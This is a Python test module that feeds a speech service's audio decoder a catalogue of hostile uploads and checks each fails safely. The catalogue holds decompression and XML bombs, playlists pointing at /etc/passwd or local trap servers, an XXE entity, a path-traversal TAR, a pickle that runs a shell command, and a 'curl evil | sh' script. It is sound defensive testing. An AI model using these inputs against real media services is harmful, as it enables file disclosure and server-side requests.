"""Hostile uploads and how each has to end: decoded alone, and sent through the front door."""

import contextlib
import functools
import hashlib
import io
import math
import selectors
import socket
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from numpy.typing import NDArray

from speech.audio import SAMPLE_RATE_HZ, DecodeLimits
from tests import boxes, media

#: Little enough that a file that takes a gigabyte, or hangs for twenty seconds, ends differently.
TIGHT = DecodeLimits(max_audio_seconds=1_800, max_memory_bytes=256 << 20, timeout_seconds=15)


#: The tone of the files that lie beside an upload, and of no upload.
CANARY_HZ = 3_000


def hears_canary(samples: NDArray[np.float32]) -> bool:
    """Whether the canary's tone is the loudest of all anywhere in the samples."""
    for second in np.array_split(samples, max(1, len(samples) // SAMPLE_RATE_HZ)):
        spectrum = np.abs(np.fft.rfft(second, SAMPLE_RATE_HZ))
        loudest = int(np.argmax(spectrum))
        stands_out = spectrum[loudest] > 20 * np.median(spectrum) + 100
        if abs(loudest - CANARY_HZ) < 5 and stands_out:
            return True
    return False


@dataclass(frozen=True, slots=True)
class Trap:
    """What lies near an upload: another's ``private.wav`` and ``private.ts``, and a server."""

    folder: Path
    port: int

    def http(self, name: str = "private.ts") -> str:
        return f"http://127.0.0.1:{self.port}/{name}"

    def path(self, name: str = "private.ts") -> str:
        return f"{self.folder}/{name}"


@contextlib.contextmanager
def untouched_server() -> Iterator[int]:
    """Give the port of a server, TCP and UDP, that nobody may try to reach meanwhile."""
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
        selectors.DefaultSelector() as selector,
    ):
        port: int = server.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        selector.register(server, selectors.EVENT_READ)
        selector.register(datagrams, selectors.EVENT_READ)
        yield port
        assert selector.select(0) == []


@dataclass(frozen=True, slots=True)
class Bad:
    """One upload."""

    #: The code of its job's failure; None for a transcript.
    end: str | None
    make: Callable[[Trap], bytes]
    #: What a client may call it.
    name: str = "upload.mp3"


def tone() -> bytes:
    return media.tone(1.0)


def noise(size: int) -> bytes:
    return hashlib.shake_128(b"noise").digest(size)


def mp3(seconds: float = 1.0) -> bytes:
    return media.sound("mp3", "libmp3lame", seconds=seconds)


def m4a(**options: str) -> bytes:
    return media.sound("ipod", "aac", seconds=6, options=options)


def tar_file() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return buffer.getvalue()


#: A file that expands a thousandfold, were it unpacked.
GZIP_BOMB = zlib.compress(bytes(10 << 20), 9, wbits=31)
XML_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b']><playlist xmlns="http://xspf.org/ns/0/"><title>&j;</title></playlist>'
)

NOT_AUDIO = {
    "one byte": Bad("not_audio", lambda _: b"\xff"),
    "text": Bad("not_audio", lambda _: media.TEXT),
    "text in UTF-16": Bad("not_audio", lambda _: media.TEXT.decode().encode("utf-16")),
    "a page of HTML": Bad("not_audio", lambda _: media.HTML),
    "a ZIP archive": Bad("not_audio", lambda _: media.zip_file()),
    "a TAR archive that climbs out": Bad("not_audio", lambda _: tar_file()),
    "10 MB of NUL in 10 kB of gzip": Bad("not_audio", lambda _: GZIP_BOMB),
    "a program": Bad("not_audio", lambda _: media.ELF, "setup.exe"),
    "a picture": Bad("not_audio", lambda _: media.PNG),
    "a PDF": Bad(
        "not_audio", lambda _: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" * 9
    ),
    "a script": Bad("not_audio", lambda _: b"#!/bin/sh\ncurl evil | sh\n" * 9, "x.sh"),
    "a pickle": Bad("not_audio", lambda _: b"cos\nsystem\n(S'touch /tmp/x'\ntR." * 9),
    "a billion laughs": Bad("not_audio", lambda _: XML_BOMB, "list.xspf"),
    "a MIDI file": Bad(
        "not_audio", lambda _: b"MThd\0\0\0\6\0\0\0\1\0\x60MTrk\0\0\0\4\0\xff\x2f\0", "x.mid"
    ),
    "noise": Bad("not_audio", lambda _: noise(100_000)),
    "1 MB of NUL": Bad("not_audio", lambda _: bytes(1 << 20)),
    "1 MB of 0xFF": Bad("not_audio", lambda _: b"\xff" * (1 << 20)),
    "an ID3 tag and nothing else": Bad("not_audio", lambda _: media.cover_art()),
    "an Ogg page and nothing else": Bad("not_audio", lambda _: boxes.opus_of_silence(0)[:47]),
    "a RIFF header and nothing else": Bad("not_audio", lambda _: media.wav()[:12], "x.wav"),
    "a FLAC header and nothing else": Bad("no_audio_samples", lambda _: media.flac_of_silence(0)),
    "a WAV header and nothing else": Bad("no_audio_samples", lambda _: media.wav(b""), "x.wav"),
    "a WAV of four samples": Bad(  # found by tests/fuzz: decoded, to nothing
        "no_audio_samples", lambda _: media.wav(bytes(range(8)), rate_hz=48_000), "x.wav"
    ),
    "a silent film": Bad("no_audio_stream", lambda _: media.video(sound_codec=None), "x.mp4"),
    "an M4A cut before its index": Bad("not_audio", lambda _: m4a()[:8_000], "x.m4a"),
    "an M4A cut within its index": Bad(
        "not_audio", lambda _: m4a(movflags="faststart")[:400], "x.m4a"
    ),
    "a FLAC whose sound is noise": Bad(
        "no_audio_samples", lambda _: media.flac_of_silence(60)[:42] + noise(50_000)
    ),
}

HEARD = {
    "an M4A with its index in front, cut at a fifth": Bad(
        None, lambda _: (whole := m4a(movflags="faststart"))[: len(whole) // 5], "x.m4a"
    ),
    "an MP3 with cover art": Bad(None, lambda _: media.cover_art() + mp3()),
    "an MP3 after 60 MB of tag": Bad(None, lambda _: media.id3_tag(padding_bytes=60 << 20) + mp3()),
    "an MP3 after 40 MB of cover art": Bad(
        None, lambda _: media.cover_art(media.PNG + bytes(40 << 20)) + mp3()
    ),
    "a WAV that claims 4 GB": Bad(None, lambda _: media.wav(claimed_bytes=2**32 - 1), "x.wav"),
    "a WAV that is a page of HTML as well": Bad(
        None, lambda _: media.wav() + b"LIST" + struct.pack("<I", len(media.HTML)) + media.HTML
    ),
    "a WAV that is a ZIP archive as well": Bad(None, lambda _: media.wav() + media.zip_file()),
    "an MP3 that is a playlist as well": Bad(
        None, lambda trap: mp3() + media.hls(trap.path(), trap.http()), "x.m3u8"
    ),
    "a WAV of NaN": Bad(None, lambda _: media.float_wav([math.nan] * 16_000)),
    "a WAV of infinity": Bad(None, lambda _: media.float_wav([math.inf, -math.inf] * 8_000)),
    "a WAV of 1e30": Bad(None, lambda _: media.float_wav([1e30, -1e30] * 8_000)),
    "an AVI with a film in MagicYUV": Bad(
        None, lambda _: media.video("avi", "magicyuv", sound_codec="mp3"), "x.avi"
    ),
    "an AVI with a playlist as its subtitles": Bad(
        None,
        lambda trap: boxes.avi(tone(), subtitle=media.hls(trap.path(), trap.http())),
        "x.avi",
    ),
    "an AVI with a session as its subtitles": Bad(
        None, lambda trap: boxes.avi(tone(), subtitle=media.sdp(trap.port)), "x.avi"
    ),
    "an MP3 whose cover is a playlist": Bad(
        None, lambda trap: media.cover_art(media.hls(trap.path(), trap.http())) + mp3()
    ),
    "an MP3 whose tag links to a server": Bad(
        None, lambda trap: media.id3_tag(("WOAF", trap.http().encode())) + mp3()
    ),
}


def _hls(end: str, *urls: Callable[[Trap], str]) -> Bad:
    return Bad(end, lambda trap: media.hls(*(url(trap) for url in urls)), "list.m3u8")


def _fill(form: str, trap: Trap) -> str:
    return form.format(trap=trap)


_PASSWORDS = "file:///etc/passwd"

NAMES_OTHERS = {
    "HLS with a sibling": _hls("not_audio", lambda _: "private.ts"),
    "HLS with a path": _hls("not_audio", lambda trap: trap.path()),
    "HLS with a path that climbs": _hls(
        "not_audio", lambda trap: f"../{trap.folder.name}/private.ts"
    ),
    "HLS with a file URL": _hls("not_audio", lambda trap: f"file://{trap.path()}"),
    "HLS with a file URL, called MP3": Bad(
        "not_audio", lambda trap: media.hls(f"file://{trap.path()}"), "song.mp3"
    ),
    "HLS with /etc/passwd": _hls("not_audio", lambda _: _PASSWORDS),
    "HLS with an http segment": _hls("not_audio", lambda trap: trap.http()),
    "HLS with a key over http": Bad(
        "not_audio", lambda trap: media.hls("private.ts", key_url=trap.http("key")), "list.m3u8"
    ),
    "HLS with a list over http": Bad(
        "not_audio",
        lambda trap: (
            f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=64000\n{trap.http('list.m3u8')}\n".encode()
        ),
        "list.m3u8",
    ),
    **{
        f"HLS with {scheme}": _hls("not_audio", functools.partial(_fill, form))
        for scheme, form in {
            "subfile": "subfile,,start,0,end,0,,:{trap.folder}/private.ts",
            "concat": "concat:{trap.folder}/private.ts|{trap.folder}/private.ts",
            "crypto": "crypto:{trap.folder}/private.ts",
            "cache": "cache:http://127.0.0.1:{trap.port}/x.ts",
            "async": "async:http://127.0.0.1:{trap.port}/x.ts",
            "tcp": "tcp://127.0.0.1:{trap.port}",
            "udp": "udp://127.0.0.1:{trap.port}",
            "rtmp": "rtmp://127.0.0.1:{trap.port}/live",
            "ftp": "ftp://127.0.0.1:{trap.port}/x.ts",
            "gopher": "gopher://127.0.0.1:{trap.port}/x.ts",
            "fd": "fd:3",
            "pipe": "pipe:0",
            "data": "data:audio/mpeg;base64,SUQz",
        }.items()
    },
    "ffconcat with a sibling": Bad("not_audio", lambda _: media.ffconcat("private.wav"), "x.wav"),
    "ffconcat with a path": Bad(
        "not_audio", lambda trap: media.ffconcat(trap.path("private.wav")), "x.ffconcat"
    ),
    "ffconcat with /etc/passwd": Bad("not_audio", lambda _: media.ffconcat("/etc/passwd")),
    "ffconcat with a file URL": Bad("not_audio", lambda _: media.ffconcat(_PASSWORDS)),
    "ffconcat with http": Bad("not_audio", lambda trap: media.ffconcat(trap.http("x.wav"))),
    "SDP": Bad("not_audio", lambda trap: media.sdp(trap.port), "x.sdp"),
    "SDP, called MP3": Bad("not_audio", lambda trap: media.sdp(trap.port)),
    "DASH": Bad("not_audio", lambda trap: media.dash(trap.http("x.mp4")), "x.mpd"),
    "DASH with a sibling": Bad("not_audio", lambda _: media.dash("private.wav"), "x.mpd"),
    "PLS": Bad("not_audio", lambda trap: media.pls(trap.http("x.mp3")), "x.pls"),
    "XSPF": Bad("not_audio", lambda trap: media.xspf(trap.http("x.mp3")), "x.xspf"),
    "XSPF with an external entity": Bad(
        "not_audio",
        lambda trap: (
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{trap.http()}">]>'.encode() + media.xspf("&e;")
        ),
        "x.xspf",
    ),
    "M3U": Bad("not_audio", lambda trap: f"#EXTM3U\n{trap.http('x.mp3')}\n".encode(), "x.m3u"),
    "RAM": Bad("not_audio", lambda trap: f"rtsp://127.0.0.1:{trap.port}/x\n".encode(), "x.ram"),
    "ASX": Bad(
        "not_audio",
        lambda trap: f'<asx><entry><ref href="{trap.http()}"/></entry></asx>'.encode(),
        "x.asx",
    ),
    "a cue sheet": Bad(
        "not_audio", lambda _: b'FILE "private.wav" WAVE\n  TRACK 01 AUDIO\n', "x.cue"
    ),
    "a MOV whose samples lie in another file": Bad(
        "not_audio",
        lambda trap: boxes.mp4(32, codec="sowt", reference=boxes.alias(trap.path("private.wav"))),
        "x.mov",
    ),
    "a MOV whose samples lie on a server": Bad(
        None,  # the reference is ignored, and what lies in the file is heard
        lambda trap: boxes.mp4(
            500, codec="sowt", reference=boxes.elsewhere(trap.http()), payload=tone()
        ),
        "x.mov",
    ),
}


def _shape(end: str, **figures: int) -> Bad:
    return Bad(end, lambda _: media.wav(tone(), **figures), "x.wav")


def _caf(end: str | None, rate_hz: float) -> Bad:
    data = ("data", None, bytes(4) + media.tone(1.0))
    return Bad(end, lambda _: boxes.caf(data, rate_hz=rate_hz), "x.caf")


def _aiff(end: str, rate: str) -> Bad:
    return Bad(end, lambda _: boxes.aiff(tone(), rate=bytes.fromhex(rate)), "x.aiff")


def _mp4(end: str | None, **figures: Any) -> Bad:
    return Bad(end, lambda _: boxes.mp4(500, codec="sowt", payload=tone(), **figures), "x.mp4")


BAD_FIGURES = {
    "WAV, 0 channels": _shape("not_audio", channels=0),
    "WAV, 9 channels": _shape("too_many_channels", channels=9),
    "WAV, 1024 channels": _shape("not_audio", channels=1_024),
    "WAV, 65535 channels": _shape("not_audio", channels=65_535),
    "WAV, 0 bits": _shape("not_audio", bits=0),
    "WAV, 65535 bits": _shape("not_audio", bits=65_535),
    "WAV, 0 Hz": _shape("not_audio", rate_hz=0),
    "WAV, 1 Hz": Bad("bad_sample_rate", lambda _: media.wav(bytes(2_000), rate_hz=1), "x.wav"),
    "WAV, 384001 Hz": _shape("bad_sample_rate", rate_hz=384_001),
    "WAV, 2^32 - 1 Hz": _shape("not_audio", rate_hz=2**32 - 1),
    "CAF, 0 Hz": _caf("not_audio", 0.0),
    "CAF, -1 Hz": _caf("not_audio", -1.0),
    "CAF, NaN Hz": _caf("not_audio", math.nan),
    "CAF, infinite Hz": _caf("bad_sample_rate", math.inf),
    "CAF, 1e300 Hz": _caf("bad_sample_rate", 1e300),
    "AIFF, 0 Hz": _aiff("not_audio", "00" * 10),
    "AIFF, infinite Hz": _aiff("not_audio", "7fff" + "00" * 8),
    "AIFF, NaN Hz": _aiff("not_audio", "7fff" + "ff" * 8),
    "AIFF, -16000 Hz": _aiff("not_audio", "c00cfa00000000000000"),
    "AU, 2^32 - 1 Hz": Bad("not_audio", lambda _: boxes.au(tone(), rate_hz=2**32 - 1)),
    "AU, 2^32 - 1 channels": Bad("not_audio", lambda _: boxes.au(tone(), channels=2**32 - 1)),
    "AU, no channels": Bad("not_audio", lambda _: boxes.au(tone(), channels=0)),
    "MP4, 0 channels": _mp4("not_audio", channels=0),
    "MP4, 65535 channels": _mp4("not_audio", channels=65_535),
    "MP4, 1 Hz": _mp4("bad_sample_rate", rate_hz=1),
    "MP4, no timescale": _mp4(None, timescale=0, duration=1),
    "MP4, 2^32 - 1 ticks a second": _mp4(None, timescale=2**32 - 1, duration=1),
    "MP4, 2^32 - 1 ticks long": _mp4(None, duration=2**32 - 1),
}

BOMBS = {
    "54 h in 81 bytes of FLAC": Bad(
        "audio_too_long", lambda _: media.flac_of_silence(196_605, rate_hz=1), "x.flac"
    ),
    "54 h in 81 bytes of FLAC, hidden": Bad(
        "bad_sample_rate",
        lambda _: media.flac_of_silence(196_605, rate_hz=1, claimed_seconds=0),
        "x.flac",
    ),
    "24 h of silence in 156 kB of FLAC": Bad(
        "audio_too_long", lambda _: media.flac_of_silence(24 * 3_600), "x.flac"
    ),
    "6.8 h of silence in FLAC, hidden": Bad(
        "audio_too_long",
        lambda _: media.flac_of_silence(6.8 * 3_600, claimed_seconds=0),
        "x.flac",
    ),
    "10 h of silence in Opus": Bad(
        "audio_too_long", lambda _: boxes.opus_of_silence(36_000), "x.opus"
    ),
    "200 streams in Matroska": Bad("too_many_streams", lambda _: media.many_streams(200), "x.mka"),
    "99 streams in AVI": Bad("too_many_streams", lambda _: boxes.avi(tone(), streams=99), "x.avi"),
    "1000 tracks in MP4": _mp4("too_many_streams", tracks=1_000),
    "an MP4 index of 10^7 samples in 636 bytes": Bad(
        "no_audio_samples", lambda _: boxes.mp4(10**7), "x.mp4"
    ),
    "an MP4 index of 2^32 - 1 samples": Bad(
        "no_audio_samples", lambda _: boxes.mp4(2**32 - 1), "x.mp4"
    ),
    "an MP4 fragment of 10^8 samples in 4 bytes": Bad(
        "resource_limit", lambda _: boxes.fragmented_mp4(10**8), "x.mp4"
    ),
    "an MP4 fragment of 2^32 - 1 samples": Bad(
        "not_audio", lambda _: boxes.fragmented_mp4(2**32 - 1), "x.mp4"
    ),
    "an MP4 of 100,000 boxes in boxes": Bad(
        "not_audio", lambda _: boxes.nested_boxes(100_000), "x.mp4"
    ),
    "a CAF cookie of 1 GB that is not there": Bad(
        "not_audio", lambda _: boxes.caf(("kuki", 10**9, b"x")), "x.caf"
    ),
    "a CAF packet table of 10^8 that is not there": Bad(
        "not_audio",
        lambda _: boxes.caf(
            ("pakt", 24 + 10**8, struct.pack(">qqii", 10**8, 10**11, 0, 0)),
            codec="aac ",
            shape=(0, 1_024, 1, 0),
        ),
        "x.caf",
    ),
}

BAD = NOT_AUDIO | HEARD | NAMES_OTHERS | BAD_FIGURES | BOMBS


def as_parameters(table: dict[str, Bad]) -> list[object]:
    """For pytest: each with its name, and marked for the table of bad inputs."""
    return [
        pytest.param(bad, id=what, marks=pytest.mark.security("media", what))
        for what, bad in table.items()
    ]
